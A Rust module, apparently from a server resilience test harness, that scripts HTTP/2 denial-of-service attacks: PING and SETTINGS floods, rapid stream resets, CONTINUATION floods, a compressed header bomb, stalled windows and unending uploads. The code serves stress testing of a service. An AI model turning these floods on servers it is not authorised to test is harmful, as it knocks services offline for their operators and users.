//! Attacks on HTTP/2: floods of each frame, streams that nobody takes, compressed bombs.

use super::{ECHOED, FEW_PLACES, INSPECT, LARGE, SHOWN, TEXT, TRANSCRIPT};
use crate::attack::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, get, head, literal, preface,
};
use crate::attack::way::{Reads, Script, Way};

/// Connections, each with as many streams as the service lets.
const MULTIPLEXED: usize = 128;
/// Connections that send as fast as they are let.
const FAST: usize = 32;
/// Connections that say nothing.
const IDLE: usize = 4_000;
/// Connections that send content.
const POSTING: usize = 64;
/// As many as the service lets a connection have.
const STREAMS: u32 = 32;
/// Connections of a client that has as many as it may, nearly.
const MANY: usize = 900;
/// Frames of a flood in a turn.
const FRAMES: u32 = 100;
/// Content of a frame, in bytes (RFC 9113 section 4.2).
const FRAME: usize = 16 * 1024;
/// The window of streams that take what comes.
const WINDOW: u32 = 65_535;
/// CANCEL (RFC 9113 section 7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Spares a client that waits for a 100 its content, and so does not read it.
const UNREAD: &str = "/api/status/500?delay=30s";

pub(super) fn ways() -> Vec<Way> {
    let mut ways = idle();
    ways.extend(asks());
    ways.extend(floods());
    ways.extend(resets());
    ways.extend(sections());
    ways.extend(contents());
    ways
}

fn named(name: &str, connections: usize, script: Script) -> Way {
    Way::new(format!("HTTP/2: {name}"), connections, script)
}

/// The preface, and then these bytes.
fn open(window: u32, bytes: &[u8]) -> Script {
    Script::send([&preface(window)[..], bytes].concat()).reads(Reads::Frames)
}

/// The stream with this number among those of a client (RFC 9113 section 5.1.1).
fn stream(number: u32) -> u32 {
    (2 * number + 1) & 0x7fff_ffff
}

fn idle() -> Vec<Way> {
    vec![
        named("all places, pings acknowledged", IDLE, open(WINDOW, &[]))
            .with_settings(FEW_PLACES),
        named("all places, half a preface", IDLE, Script::send("PRI * HTTP/2.0\r\n"))
            .with_settings(FEW_PLACES),
    ]
}

/// Streams whose window is closed, or nearly.
fn asks() -> Vec<Way> {
    let ask = |target: &str, coding: &str, window: u32| {
        let asked: Vec<_> =
            (0..STREAMS).flat_map(|n| get(stream(n), target, coding)).collect();
        let name = format!("window of {window}: {target} ({coding})");
        named(&name, MULTIPLEXED, open(window, &asked))
    };
    let targets = [LARGE, TRANSCRIPT, "/", "/codes/502", "/api/codes"];
    let mut ways = Vec::from(targets.map(|target| ask(target, "identity", 0)));
    ways.push(ask("/codes/502", "br", 0));
    ways.push(ask("/api/codes", "br", 0));
    ways.push(ask(LARGE, "identity", 1));
    ways
}

/// Frames that cost nothing to send and want an answer, or that say nothing.
fn floods() -> Vec<Way> {
    let flood = |name: &str, reads: Reads, start: &[u8], once: Vec<u8>| {
        let many = once.repeat(FRAMES as usize);
        let script = open(WINDOW, start).then(move |_, _| many.clone()).reads(reads);
        named(name, FAST, script)
    };
    let ping = || frame(PING, 0, 0, b"flooding");
    let settings = || frame(SETTINGS, 0, 0, &[]);
    // SETTINGS_HEADER_TABLE_SIZE, to and fro (RFC 7541 section 4.3).
    let table = [&[0, 1, 0, 0, 0, 0][..], &[0, 1, 0, 0, 16, 0]].concat();
    let post = head(1, END_HEADERS, "POST", "/api/status/200", ("accept", "*/*"));
    let asked = |_, turn: u32| {
        let numbers = turn * STREAMS..(turn + 1) * STREAMS;
        numbers.flat_map(|n| get(stream(n), "/api/status/200", "identity")).collect()
    };
    vec![
        named("requests", FAST, open(WINDOW, &[]).then(asked)),
        named(
            "PING flood, many connections",
            MANY,
            open(WINDOW, &[])
                .then(move |_, _| frame(PING, 0, 0, b"flooding").repeat(100)),
        ),
        flood("DATA flood, a byte each", Reads::Frames, &post, frame(DATA, 0, 1, b"x")),
        flood("PING flood", Reads::Frames, &[], ping()),
        flood("PING flood, nothing read", Reads::Nothing, &[], ping()),
        flood("SETTINGS flood", Reads::Frames, &[], settings()),
        flood("SETTINGS flood, nothing read", Reads::Nothing, &[], settings()),
        flood(
            "SETTINGS that resize the table",
            Reads::Frames,
            &[],
            frame(SETTINGS, 0, 0, &table),
        ),
        flood("empty DATA flood", Reads::Frames, &post, frame(DATA, 0, 1, &[])),
        flood("PRIORITY flood", Reads::Frames, &[], frame(PRIORITY, 0, 3, &[0; 5])),
        flood(
            "WINDOW_UPDATE flood",
            Reads::Frames,
            &post,
            frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        ),
        flood(
            "frames of no known type",
            Reads::Frames,
            &[],
            frame(0xfa, 0, 0, &[0; 8]),
        ),
    ]
}

/// Streams that end before their answer.
fn resets() -> Vec<Way> {
    let reset = |name: &str, target: &'static str, end: fn(u32) -> Vec<u8>| {
        let script = open(WINDOW, &[]).then(move |_, turn| {
            let numbers = turn * STREAMS..(turn + 1) * STREAMS;
            let streams = numbers.map(stream);
            streams.flat_map(|n| [get(n, target, "br"), end(n)].concat()).collect()
        });
        named(name, FAST, script)
    };
    let cancel = |n| frame(RST_STREAM, 0, n, &CANCEL);
    vec![
        reset("asks and resets", "/api/status/200", cancel),
        reset("asks for delays and resets", "/api/status/200?delay=30s", cancel),
        reset("asks for costly work and resets", "/cards/502.png", cancel),
        // What is wrong on a stream has the service reset it (RFC 9113 section 6.9).
        reset("asks and has the service reset", "/api/status/200", |n| {
            frame(WINDOW_UPDATE, 0, n, &[0; 4])
        }),
    ]
}

/// Field sections that do not end, or that are much larger than what is sent.
fn sections() -> Vec<Way> {
    let begun = frame(HEADERS, END_STREAM, 1, &literal(0, "a", "b"));
    let endless = |name: &str, payload: Vec<u8>| {
        let more = frame(CONTINUATION, 0, 1, &payload);
        let script = open(WINDOW, &begun).then(move |_, _| more.repeat(20));
        named(name, FAST, script)
    };
    // A field that the table keeps, and then its index again and again (RFC 7541
    // section 6.1).
    let bomb = |turn: u32| {
        let kept = literal(0x40, "bomb", &"b".repeat(3900));
        let section = [&kept[..], &[0xbe; 10_000]].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &section)
    };
    vec![
        endless("CONTINUATION flood", literal(0, "field", &"v".repeat(200))),
        endless("empty CONTINUATION flood", Vec::new()),
        named(
            "compressed header bomb",
            FAST,
            open(WINDOW, &[]).then(move |_, turn| bomb(turn)),
        ),
    ]
}

/// Content that is not ended.
fn contents() -> Vec<Way> {
    let post = |target: &'static str, field, connections, length: usize| {
        let heads: Vec<_> = (0..STREAMS)
            .flat_map(|n| head(stream(n), END_HEADERS, "POST", target, field))
            .collect();
        // As much as the windows of the stream and of all let it (RFC 9113 section 6.9.2).
        let script = open(WINDOW, &heads).then(move |_, turn| {
            let sent = turn as usize / STREAMS as usize * FRAME;
            let portion = FRAME.min(length.saturating_sub(sent));
            match portion {
                0 => Vec::new(),
                _ => frame(DATA, 0, stream(turn % STREAMS), &vec![b'x'; portion]),
            }
        });
        named(&format!("content that does not end: {target}"), connections, script)
    };
    vec![
        post(INSPECT, ("accept", "*/*"), POSTING, TEXT - 1),
        post(ECHOED, ("accept", "text/html"), POSTING, SHOWN),
        post(UNREAD, ("expect", "100-continue"), MULTIPLEXED, 2 * FRAME),
    ]
}
